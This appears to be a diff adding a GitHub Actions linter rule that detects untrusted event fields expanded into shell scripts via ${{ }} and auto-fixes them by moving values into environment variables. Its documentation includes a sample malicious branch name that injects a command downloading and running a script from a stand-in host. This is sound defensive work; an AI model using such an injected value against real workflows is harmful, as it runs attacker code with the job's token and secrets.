@@ -1,0 +1,205 @@
+"""template-injection: text an attacker controls, expanded into a script by ``${{ }}``.
+
+The untrusted values are those GitHub's "Security hardening for GitHub Actions" (understanding
+the risk of script injections) and the GitHub Security Lab's "Untrusted input" list name: titles,
+bodies, commit messages, author names and emails, and branch names of pull requests.
+"""
+
+from __future__ import annotations
+
+import re
+from functools import partial
+from typing import TYPE_CHECKING
+
+from pitstop.audit.findings import Fix
+from pitstop.audit.locate import fragment_span
+from pitstop.audit.repo import Repo, StepPlace
+from pitstop.audit.rule import Check, Docs, Rule
+from pitstop.expr.errors import ExpressionError
+from pitstop.expr.template import Embedded, find_expressions
+from pitstop.fix.patch import CannotFix
+from pitstop.workflow.yaml import MappingNode, ScalarNode
+
+if TYPE_CHECKING:
+    from pitstop.fix.context import FixContext
+
+UNTRUSTED = re.compile(
+    r"\bgithub\s*\.\s*(head_ref\b|event\s*\.\s*("
+    r"(issue|pull_request|discussion)\.(title|body)"
+    r"|(comment|review|review_comment)\.body"
+    r"|pages(\.\*|\[\d+\])?\.page_name"
+    r"|(commits(\.\*|\[\d+\])?|head_commit)\.(message|author\.(email|name))"
+    r"|pull_request\.head\.(ref|label|repo\.default_branch)"
+    r"|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))"
+    r"))",
+    re.IGNORECASE,
+)
+SHELLS = ("bash", "sh")
+
+
+def check(repo: Repo, out: Check) -> None:
+    for place in repo.steps():
+        script, node, where = _script(place)
+        if script is None or node is None:
+            continue
+        out.checked += 1
+        try:
+            found = list(find_expressions(script))
+        except ExpressionError:
+            continue  # pitstop validate reports it
+        after = 0
+        for embedded in found:
+            source = script[embedded.start : embedded.end]
+            span = fragment_span(place.doc, node, source, after)
+            after = max(after, span.end - node.start.offset)
+            untrusted = UNTRUSTED.search(embedded.text)
+            if untrusted is None:
+                continue
+            out.flag(
+                span,
+                f"'{untrusted.group(0)}' is expanded into the {where}: whoever writes it (a pull "
+                "request title, a branch name) writes code that runs here, with the job's token",
+                fix=_fix(place, script, embedded) if where == "script" else None,
+            )
+    out.figure = f"{out.checked - out.failed} of {out.checked} scripts expand no untrusted input"
+
+
+def _script(place: StepPlace) -> tuple[str | None, ScalarNode | None, str]:
+    """A step's script: its ``run:``, or the ``script`` input of actions/github-script."""
+    node = place.step.node.get("run")
+    where = "script"
+    if node is None and (place.step.uses or "").lower().startswith("actions/github-script@"):
+        given = place.step.node.get("with")
+        node = given.get("script") if isinstance(given, MappingNode) else None
+        where = "github-script code"
+    if isinstance(node, ScalarNode) and isinstance(node.value, str):
+        return node.value, node, where
+    return None, None, where
+
+
+def _fix(place: StepPlace, script: str, embedded: Embedded) -> Fix | None:
+    shell = (place.step.shell or _default_shell(place)).split()[0]
+    if shell not in SHELLS:
+        return None
+    quoting = _quoting(script, embedded.start)
+    name = _env_name(embedded.text)
+    return Fix(
+        f"moved ${{{{ {embedded.text} }}}} into env {name}",
+        "safe" if quoting != "heredoc" else "unsafe",
+        partial(_to_env, place, embedded, name, quoting),
+    )
+
+
+def _default_shell(place: StepPlace) -> str:
+    for defaults in (
+        place.job.defaults if place.job else {},
+        place.workflow.defaults if place.workflow else {},
+    ):
+        run = defaults.get("run") if isinstance(defaults, dict) else None
+        if isinstance(run, dict) and run.get("shell"):
+            return str(run["shell"])
+    runs_on = str(place.job.runs_on if place.job else "").lower()
+    return "pwsh" if "windows" in runs_on else "bash"
+
+
+def _quoting(script: str, position: int) -> str:
+    """Whether ``position`` of a shell script is inside single quotes, double quotes, a
+    here-document (anywhere after a line that opens one), or none of these. A reading for the
+    common cases, not a shell parser."""
+    single = double = opens_heredoc = False
+    index = 0
+    while index < position:
+        c = script[index]
+        if c == "\\" and not single:
+            index += 2
+            continue
+        quoted = single or double
+        if c == "'" and not double:
+            single = not single
+        elif c == '"' and not single:
+            double = not double
+        elif c == "#" and not quoted and (index == 0 or script[index - 1] in " \t\n"):
+            end = script.find("\n", index)
+            index = position if end < 0 or end >= position else end
+            continue
+        elif script.startswith("<<", index) and not quoted and not script.startswith("<<<", index):
+            opens_heredoc = True
+            index += 2
+            continue
+        elif c == "\n" and opens_heredoc:
+            return "heredoc"
+        index += 1
+    return "single" if single else "double" if double else "none"
+
+
+def _env_name(expression: str) -> str:
+    path = re.sub(r"\[\d+\]|\.\*", "", expression)
+    parts = [p for p in re.split(r"\s*\.\s*", path) if p and p.lower() not in ("github", "event")]
+    return (
+        "_".join(parts[-2:]).upper()
+        if len(parts) > 1
+        else (parts[-1] if parts else "VALUE").upper()
+    )
+
+
+def _to_env(
+    place: StepPlace, embedded: Embedded, name: str, quoting: str, context: FixContext
+) -> None:
+    node = place.step.node.get("run")
+    if not isinstance(node, ScalarNode):
+        raise CannotFix("the script is not a string")
+    patch = context.patch(place.doc)
+    wanted = f"${{{{ {embedded.text} }}}}"
+    env = place.step.node.get("env")
+    taken = {**(place.job.env if place.job and isinstance(place.job.env, dict) else {})}
+    taken.update(
+        place.workflow.env if place.workflow and isinstance(place.workflow.env, dict) else {}
+    )
+    if isinstance(env, MappingNode):
+        taken.update(env.to_python())
+    script = str(node.value)
+    base, number = name, 2
+    while (name in taken and taken[name] != wanted) or (
+        name not in taken and re.search(rf"\${{?{name}\b", script)
+    ):
+        name, number = f"{base}_{number}", number + 1
+    source = script[embedded.start : embedded.end]
+    at = place.doc.text.find(source, node.start.offset, node.end.offset)
+    nth = script.count(source, 0, embedded.start)
+    for _ in range(nth):
+        at = place.doc.text.find(source, at + 1, node.end.offset)
+    if at < 0:
+        raise CannotFix("the expression is not written as it reads")
+    variable = f"'\"${{{name}}}\"'" if quoting == "single" else f"${{{name}}}"
+    patch.replace_fragment(node, at, at + len(source), variable)
+    if taken.get(name) == wanted and isinstance(env, MappingNode) and name in env:
+        return
+    if isinstance(env, MappingNode):
+        patch.insert_entry(env, name, wanted)
+    elif env is None:
+        patch.insert_entry(place.step.node, "env", {name: wanted}, before=("run",))
+    else:
+        raise CannotFix("the step's env is not a mapping")
+
+
+RULE = Rule(
+    id="template-injection",
+    category="security",
+    severity="high",
+    summary="Untrusted input is expanded into a script with ${{ }}.",
+    docs=Docs(
+        what="Flags `${{ }}` expressions in `run:` scripts and in actions/github-script code "
+        "that read text an outsider controls: issue, pull request, discussion and comment titles "
+        "and bodies, commit messages and authors, `github.head_ref` and the pull request's head "
+        "branch and label, and the same fields of `workflow_run`.",
+        why="`${{ }}` is replaced before the shell sees the script, so the value becomes code. A "
+        'branch named `a";curl evil.sh|sh;"` runs that command, with the job\'s token and '
+        "secrets. An environment variable is data: the shell never reads it as code.",
+        example='- run: echo "Title: ${{ github.event.pull_request.title }}"',
+        instead="- env:\n    PULL_REQUEST_TITLE: ${{ github.event.pull_request.title }}\n"
+        '  run: echo "Title: ${PULL_REQUEST_TITLE}"\n\n`pitstop fix` makes this change for bash '
+        "and sh steps (inside single quotes it writes `'\"${NAME}\"'`).",
+    ),
+    check=check,
+    fixable="safe",
+)
